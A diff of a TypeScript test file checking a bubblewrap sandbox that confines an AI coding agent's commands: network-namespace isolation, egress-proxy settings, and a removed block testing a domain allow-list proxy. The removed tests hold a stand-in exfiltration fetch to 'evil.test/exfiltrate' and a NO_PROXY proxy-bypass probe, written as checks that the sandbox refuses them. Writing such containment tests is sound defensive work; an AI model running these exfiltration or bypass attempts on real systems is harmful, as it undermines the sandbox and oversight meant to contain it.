@@ -4,22 +4,20 @@ import {
   mkdirSync,
   mkdtempSync,
   readFileSync,
+  readlinkSync,
   realpathSync,
   rmSync,
   writeFileSync,
 } from 'node:fs';
 import { rm } from 'node:fs/promises';
-import { createServer, type Server } from 'node:http';
-import { type AddressInfo, connect } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { runShell } from '../../src/agent/tools/run-shell.js';
 import { claudeScope } from '../../src/engines/claude-code/claude-scope.js';
-import { type DomainProxy, startDomainProxy } from '../../src/sandbox/domain-proxy.js';
-import { createSandboxHost, type WorktreeSandboxes } from '../../src/sandbox/sandbox-host.js';
+import type { WorktreeSandboxes } from '../../src/sandbox/sandbox-host.js';
 import { worktreeGitDirs, writeAgentGitDir } from '../../src/session/git/worktree-view.js';
-import { sandboxFacts, testSandboxHost } from '../helpers/sandbox.js';
+import { testSandboxHost } from '../helpers/sandbox.js';
 
 const SECRET = 'ghs_sandboxProbeSecret0123456789abcdef';
 let root: string;
@@ -51,9 +49,10 @@ beforeAll(async () => {
   const dirs = await worktreeGitDirs(worktree);
   agentGitDir = join(checkout, '.issueloop', 'worktrees', '.issue-1.git');
   await writeAgentGitDir(dirs, 'issueloop/issue-1', agentGitDir);
-  sandboxes = (await testSandboxHost()).forWorktree({ worktree, git: dirs, agentGitDir });
+  sandboxes = await (await testSandboxHost()).forWorktree({ worktree, git: dirs, agentGitDir });
 });
-afterAll(() => {
+afterAll(async () => {
+  await sandboxes.close();
   rmSync(root, { recursive: true, force: true });
 });
 
@@ -123,14 +122,45 @@ describe("the sandbox around the agent's commands (real bubblewrap)", () => {
     expect(result.output).toContain('no-userns');
   });
 
-  it('has no network unless asked; setup has it', async () => {
-    const none = await inSandbox(
-      'cat /sys/class/net/*/operstate 2>/dev/null; ls /sys/class/net 2>/dev/null || ip -o link 2>/dev/null || cat /proc/net/dev',
-    );
-    expect(none.output).not.toMatch(/\beth\d|\bens\d|\bwlan/);
-    const setup = await inSandbox('cat /proc/net/dev', 'setup');
-    const hostDevices = readFileSync('/proc/net/dev', 'utf8').split('\n').length;
-    expect(setup.output.trim().split('\n').length).toBe(hostDevices - 1);
+  it("regression: no role shares the host's network namespace (setup had the host's network)", async () => {
+    const hostNet = readFileSync('/proc/net/dev', 'utf8');
+    const scope = await claudeScope('sh', env);
+    const claude = await sandboxes.claude(scope);
+    for (const sandbox of [sandboxes.commands, sandboxes.setup, claude]) {
+      const result = await runIn('cat /proc/net/dev; readlink /proc/self/ns/net', sandbox);
+      const devices = result.output
+        .split('\n')
+        .filter((line) => line.includes(':') && !line.startsWith('net:'));
+      expect(devices.map((line) => line.trim().split(':')[0])).toEqual(['lo']);
+      expect(result.output).toMatch(/net:\[\d+\]/);
+      expect(result.output).not.toContain(readlinkSync('/proc/self/ns/net'));
+    }
+    // The host has more than loopback, so the check above could have failed.
+    expect(hostNet.split('\n').filter((line) => line.includes(':')).length).toBeGreaterThan(1);
+    await rm(scope.scratch, { recursive: true, force: true });
+  });
+
+  it('gives the claude role one namespace per session, however often the engine asks, apart from the commands', async () => {
+    const scope = await claudeScope('sh', env);
+    const netOf = async (sandbox: WorktreeSandboxes['commands']) =>
+      (await runIn('readlink /proc/self/ns/net', sandbox)).output.trim();
+    const first = await netOf(await sandboxes.claude(scope));
+    expect(first).toMatch(/^net:\[\d+\]$/);
+    expect(await netOf(await sandboxes.claude(scope))).toBe(first);
+    expect(await netOf(sandboxes.commands)).not.toBe(first);
+    expect(await netOf(sandboxes.setup)).not.toBe(await netOf(sandboxes.commands));
+    await rm(scope.scratch, { recursive: true, force: true });
+  });
+
+  it('points every role at the egress proxy; Node uses it only where the role may reach a host', () => {
+    for (const sandbox of [sandboxes.commands, sandboxes.setup]) {
+      const inside = sandbox.env({ PATH: '/usr/bin' });
+      expect(inside.HTTPS_PROXY).toBe('http://127.0.0.1:3128');
+      expect(inside.NO_PROXY).toContain('127.0.0.1');
+    }
+    // Default settings: the commands reach no host, so Node is spared the proxy's start-up cost;
+    // setup's registries are detected from a worktree without manifests: none either.
+    expect(sandboxes.commands.env({}).NODE_USE_ENV_PROXY).toBeUndefined();
   });
 
   it('ends every process when the command ends, setsid daemons included', async () => {
@@ -174,67 +204,6 @@ describe("the sandbox around the agent's commands (real bubblewrap)", () => {
   });
 });
 
-describe('sandbox.allow_domains: the listed hosts through the harness proxy, nothing else', () => {
-  let server: Server;
-  let port: number;
-  let proxy: DomainProxy;
-  const denied: string[] = [];
-  let commands: WorktreeSandboxes['commands'];
-
-  beforeAll(async () => {
-    server = createServer((req, res) => res.end(`registry says hi to ${req.url}\n`));
-    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-    port = (server.address() as AddressInfo).port;
-    // registry.test and *.mirror.test are "the internet": loopback servers the proxy reaches by name.
-    proxy = await startDomainProxy({
-      allow: ['registry.test', '*.mirror.test'],
-      connect: (_port, _host) => connect(port, '127.0.0.1'),
-      onDenied: (host) => denied.push(host),
-    });
-    const facts = await sandboxFacts();
-    const dirs = await worktreeGitDirs(worktree);
-    commands = createSandboxHost({ mode: 'os', network: 'none', read_only: [] }, facts, proxy).forWorktree({
-      worktree,
-      git: dirs,
-      agentGitDir,
-    }).commands;
-  });
-  afterAll(async () => {
-    await proxy.close();
-    await new Promise((resolve) => server.close(resolve));
-  });
-
-  const fetchIn = async (url: string) => {
-    const script = `fetch(${JSON.stringify(url)}).then(async (r) => console.log(r.status, await r.text())).catch((e) => console.log('failed', e.cause?.code ?? e.message))`;
-    return runIn(`node -e ${JSON.stringify(script)}`, commands);
-  };
-
-  it('reaches an allowed host and its allowed subdomains', async () => {
-    expect((await fetchIn('http://registry.test/pkg')).output).toBe('200 registry says hi to /pkg\n\n');
-    expect((await fetchIn('http://eu.mirror.test/x')).output).toContain('200 registry says hi to /x');
-  });
-
-  it('is refused every other host, over plain HTTP and CONNECT alike, and the refusal is logged', async () => {
-    // Node tunnels plain HTTP through CONNECT too: refused either way.
-    const plain = await fetchIn('http://evil.test/exfiltrate');
-    expect(plain.output).toMatch(
-      /^failed|^403 issueloop sandbox: evil\.test is not in sandbox\.allow_domains/,
-    );
-    expect(plain.output).not.toContain('registry says hi');
-    const tls = await fetchIn('https://mirror.test.evil.test/');
-    expect(tls.output).toMatch(/^failed/);
-    expect(denied).toEqual(expect.arrayContaining(['evil.test:80', 'mirror.test.evil.test:443']));
-  });
-
-  it('cannot go around the proxy: the host itself is not reachable from inside', async () => {
-    const direct = await runIn(
-      `NO_PROXY='*' node -e "fetch('http://127.0.0.1:${port}/').then(()=>console.log('reached')).catch(()=>console.log('unreachable'))"`,
-      commands,
-    );
-    expect(direct.output.trim()).toBe('unreachable');
-  });
-});
-
 describe("the claude process's sandbox", () => {
   it('regression: settings and MCP servers it writes are thrown away; only its session files persist', async () => {
     const home = realpathSync(mkdtempSync(join(tmpdir(), 'issueloop-claude-home-')));
@@ -243,7 +212,7 @@ describe("the claude process's sandbox", () => {
       writeFileSync(join(home, '.claude', 'settings.json'), '{"theme":"dark"}');
       writeFileSync(join(home, '.claude.json'), '{"numStartups":1}');
       const scope = await claudeScope('sh', { PATH: env.PATH, HOME: home });
-      const claude = sandboxes.claude(scope);
+      const claude = await sandboxes.claude(scope);
       const result = await runShell(
         [
           'cat ~/.claude/settings.json',
